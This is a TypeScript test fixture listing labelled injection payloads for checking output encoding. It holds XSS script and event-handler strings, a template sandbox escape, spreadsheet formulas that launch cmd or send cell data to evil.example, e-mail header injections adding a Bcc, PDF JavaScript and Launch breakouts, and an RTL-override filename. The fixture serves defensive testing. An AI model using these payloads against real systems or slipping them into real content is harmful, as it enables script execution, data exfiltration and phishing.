/**
 * Classic injection payloads for output-encoding tests: HTML/script, attribute and comment
 * breakouts, template expressions, spreadsheet formulas, e-mail header injection, PDF string
 * breakouts, bidi overrides and oversized text. Every output (page, e-mail, letter, export) must
 * show these as the text they are. NUL-free: the only control characters are TAB, CR and LF,
 * the ones a text field accepts.
 */
export type XssPayload = { label: string; text: string };

export const XSS_CORPUS: readonly XssPayload[] = [
  { label: "script tag", text: "<script>alert(1)</script>" },
  { label: "img onerror", text: '<img src=x onerror="alert(1)">' },
  { label: "svg onload", text: "<svg onload=alert(1)>" },
  { label: "svg with script", text: "<svg><script>alert(1)</script></svg>" },
  { label: "javascript: URL", text: "javascript:alert(1)" },
  { label: "link with javascript: URL", text: '<a href="javascript:alert(1)">klik</a>' },
  { label: "double-quote attribute breakout", text: '"><script>alert(1)</script>' },
  { label: "single-quote attribute breakout", text: "'><img src=x onerror=alert(1)>" },
  { label: "comment and style breakout", text: "'--></style><script>alert(1)</script>" },
  { label: "textarea breakout", text: "</textarea><script>alert(1)</script>" },
  { label: "iframe srcdoc with entities", text: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>' },
  { label: "template expression", text: "{{7*7}}" },
  { label: "template literal", text: "${7*7}" },
  { label: "template sandbox escape", text: "{{constructor.constructor('alert(1)')()}}" },
  { label: "formula =", text: '=HYPERLINK("http://evil.example/?"&A1,"klik")' },
  { label: "formula +", text: "+cmd|' /C calc'!A0" },
  { label: "formula -", text: "-2+3+cmd|' /C calc'!A0" },
  { label: "formula @", text: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { label: "TAB-led formula", text: "\t=1+2" },
  { label: "CR-led formula", text: "\r=1+2" },
  { label: "CSV quote and column breakout", text: 'a";"=1+2";"b' },
  { label: "CSV row breakout", text: 'a"\r\n"=1+2' },
  { label: "delimiters before formulas", text: "Jansen, =1+2; @SUM(A1)\t-3+4" },
  { label: "CRLF header injection", text: "x\r\nBcc: evil@example.test" },
  { label: "LF header and body injection", text: "x\nSubject: spoofed\n\n<html><body>phish</body></html>" },
  { label: "PDF string and action breakout", text: ") Tj ET /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (" },
  { label: "PDF URI and launch names", text: "/URI (http://evil.example) /Launch /F (cmd.exe)" },
  { label: "RTL override", text: "factuur\u202Egnp.exe" },
  { label: "encoded word and URL-encoded CRLF", text: "=?UTF-8?Q?Bcc=3A_evil=40example.test?= %0d%0aBcc:evil@example.test" },
  { label: "non-Latin text", text: "Zoë Ünal 李 ☃ 😀" },
  { label: "very long text", text: `<script>alert(1)</script>${"A".repeat(5_000)}` },
];
